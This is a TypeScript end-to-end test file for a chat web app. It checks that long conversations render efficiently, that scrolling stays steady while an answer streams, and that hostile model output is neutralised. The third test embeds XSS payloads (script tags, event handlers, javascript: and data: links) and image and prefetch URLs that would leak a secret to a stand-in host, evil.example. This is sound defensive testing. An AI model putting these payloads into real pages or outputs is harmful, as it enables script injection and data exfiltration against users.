import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { systemClock } from "../../../packages/server/src/core/kernel/clock.ts";
import { conversationId, messageId, randomIds } from "../../../packages/server/src/core/kernel/ids.ts";
import { silentLogger } from "../../../packages/server/src/core/kernel/logger.ts";
import { openStore } from "../../../packages/server/src/store/open-store.ts";
import { conversationRow } from "../../support/conversation-row.ts";
import { answers, log, type PageHarness, say, startPage } from "../../support/page-harness.ts";
import { text, tokens } from "../../support/scripted-model-steps.ts";

const home = mkdtempSync(join(tmpdir(), "rightseat-long-"));
const LONG = "long-conversation";
let it: PageHarness;
beforeAll(async () => {
	await fillLongConversation();
	it = await startPage({ home });
});
afterAll(async () => {
	await it.close();
	rmSync(home, { recursive: true, force: true, maxRetries: 5 });
});

test("[PG49] 2,000 messages open with few elements, and the first one is reached by scrolling", async () => {
	const { page } = await it.openPage(`/c/${LONG}`);
	await answers(page).last().getByText("Answer 999").waitFor();
	const count = () => page.evaluate(() => document.querySelectorAll("*").length);
	expect(await count()).toBeLessThanOrEqual(1_500);
	// In the page itself: a look from outside at every step costs more than the scrolling.
	const most = await log(page).evaluate(async (box) => {
		let most = 0;
		for (const end = performance.now() + 60_000; performance.now() < end; ) {
			box.scrollTo(0, 0);
			await new Promise((resolve) => setTimeout(resolve, 30));
			most = Math.max(most, document.querySelectorAll("*").length);
			if (box.textContent?.includes("Question 0 of many")) break;
		}
		return most;
	});
	expect(most).toBeLessThanOrEqual(1_500);
	await log(page).getByText("Question 0 of many", { exact: true }).waitFor();
	await page.getByRole("button", { name: "Jump to latest" }).click();
	await answers(page).last().getByText("Answer 999").waitFor();
});

test("[PG48] a reader in the middle sees nothing move while an answer streams, and one at the end follows it", async () => {
	const { page } = await it.openPage();
	const paragraph = (index: number) => `Paragraph ${index} with some words.\n\n`;
	it.model.reply(
		...Array.from({ length: 40 }, (_, index) => text(paragraph(index))),
		tokens(150, 50, (index) => paragraph(40 + index)),
		text("The end."),
	);
	await say(page, "A long one");
	await answers(page).getByText("Paragraph 45 with").waitFor();
	const box = log(page);
	const distance = () => box.evaluate((element) => element.scrollHeight - element.scrollTop - element.clientHeight);
	await expect.poll(distance).toBeLessThan(60);
	await box.hover();
	await page.mouse.wheel(0, -900);
	await page.getByRole("button", { name: "Jump to latest" }).waitFor();
	await page.waitForTimeout(300);
	const place = () => page.getByText("Paragraph 20 with").evaluate((element) => element.getBoundingClientRect().top);
	const before = await place();
	await answers(page).getByText("The end.").waitFor({ state: "attached" });
	expect(Math.abs((await place()) - before)).toBeLessThan(2);
	await page.getByRole("button", { name: "Jump to latest" }).click();
	await expect.poll(distance).toBeLessThan(5);
});

test("[PG47] hostile Markdown from the model asks nothing of another host and runs nothing", async () => {
	const { page, problems } = await it.openPage();
	it.model.reply(
		text(
			[
				"![a](https://evil.example/?q=SECRET) ![b][r]\n\n[r]: https://evil.example/2.png",
				"<script>window.hacked=1</script> <img src=x onerror=window.hacked=1> <svg onload=window.hacked=1>",
				'<link rel="prefetch" href="https://evil.example/p"><style>body{background:url(https://evil.example/c)}</style>',
				"[press](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>)",
				"$\\href{javascript:window.hacked=1}{x}$ $$\\includegraphics{https://evil.example/m.png}$$",
				"```mermaid\ngraph TD; A[<img src=https://evil.example/d.png>]-->B\n```",
				"The end.",
			].join("\n\n"),
		),
	);
	await say(page, "Attack me");
	await answers(page).getByText("The end.").waitFor();
	await page.waitForTimeout(500);
	expect(await page.evaluate(() => Reflect.get(window, "hacked"))).toBeUndefined();
	expect(problems).toEqual([]);
});

async function fillLongConversation(): Promise<void> {
	const opened = openStore({ path: join(home, "rightseat.db"), clock: systemClock, ids: randomIds, logger: silentLogger });
	const { store } = opened;
	const id = conversationId(LONG);
	const at = Date.now() - 3_600_000;
	store.transaction(() => {
		store.conversations.insert(
			conversationRow(id, {
				title: "A long one",
				titleFixed: true,
				model: "scripted-model",
				cwd: tmpdir(),
				status: "completed",
				createdAt: at,
				updatedAt: at,
			}),
		);
		for (let index = 0; index < 1_000; index++) {
			store.messages.addMessage(id, {
				id: messageId(`u${index}`),
				role: "user",
				content: `Question ${index} of many`,
				metadata: { origin: "web" },
				createdAt: at + index * 2,
			});
			store.messages.addMessage(id, {
				id: messageId(`a${index}`),
				role: "assistant",
				content: `Answer ${index} with **bold**, a list:\n\n- one\n- two\n\n\`\`\`ts\nconst x = ${index};\n\`\`\`\n`,
				metadata: { outcome: "completed", tools: [], parts: [], inReplyTo: `u${index}` },
				createdAt: at + index * 2 + 1,
			});
		}
	});
	await opened.close();
}
